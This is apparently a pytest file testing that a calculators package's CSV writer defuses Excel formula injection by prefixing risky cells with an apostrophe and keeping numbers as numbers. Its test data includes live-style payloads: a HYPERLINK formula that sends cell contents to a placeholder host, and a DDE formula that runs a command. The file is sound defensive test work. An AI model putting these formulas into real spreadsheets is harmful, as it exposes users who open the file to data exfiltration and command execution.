"""csv_writer: what every CSV of the calculators looks like to Excel, including cells Excel would run as formulas."""

from __future__ import annotations

import csv
import io

import pytest

from calculators import follow_up, run
from calculators.csv_writer import BOM, csv_text

# OWASP "CSV Injection": Excel runs a cell as a formula when it begins with one of these, quoted or not.
FORMULA = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = ['=HYPERLINK("http://127.0.0.2/?d="&B2;"Klik")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-1+2", "\t=1"]


def excel_cells(text: str) -> list[list[str]]:
    """The cells as Excel reads the file: BOM dropped, `;` separated, quotes removed."""
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_would_run_as_a_formula_is_shown_as_text(attack):
    [[cell]] = excel_cells(csv_text([[attack]]))
    assert cell == "'" + attack and not runs_as_formula(cell)


@pytest.mark.parametrize("number", ["-51,8", "-3", "0", "12,25", "-0,04"])
def test_numbers_stay_numbers(number):
    assert excel_cells(csv_text([[number]])) == [[number]]


def test_the_calculators_csv_defuses_a_cluster_name(reference):
    reference["clusters"][0]["name"] = "=2+2"
    response = run({"reference": reference, "cluster_id": "A", "listed": "2000", "text": "4436;30\n1003;2\n0101;6000"})
    cells = [cell for row in excel_cells(response["csv"]) for cell in row]
    assert "'=2+2" in cells and not any(runs_as_formula(cell) for cell in cells if not cell.lstrip("-")[:1].isdigit())


def test_the_follow_up_csv_defuses_a_name_and_keeps_a_negative_change_a_number():
    request = {"before": "100", "before_days": "30", "after": "40", "after_days": "30", "name": ATTACKS[0]}
    rows = excel_cells(follow_up(request)["csv"])
    assert rows[1][0] == "'" + ATTACKS[0]
    assert any(cell.startswith("-") and cell[1:].replace(",", "").isdigit() for cell in rows[1])  # -60 %: a number
